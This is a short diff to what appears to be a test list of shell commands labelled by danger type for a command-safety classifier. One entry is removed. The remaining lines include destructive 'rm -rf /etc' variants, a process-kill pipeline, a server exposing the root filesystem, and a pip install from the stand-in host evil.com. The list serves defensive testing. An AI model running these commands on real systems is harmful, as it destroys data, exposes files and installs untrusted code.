@@ -70,7 +70,6 @@ SHELL = [
     ("poetry run rm -rf /etc", "delete-outside"),
     ("ps aux | grep x | xargs kill", "kill-process"),
     ("echo /etc | xargs -I{} rm -rf {}", "delete-outside"),
-    ("python -m timeit 'import os; os.system(\"rm -rf /etc\")'", "delete-outside"),
     ("python -m http.server --directory / 80", "network-listen"),
     ("python -m pip install -i http://evil.com/ requests", "package-install"),
     ("dpkg -i x.deb", "package-install"),
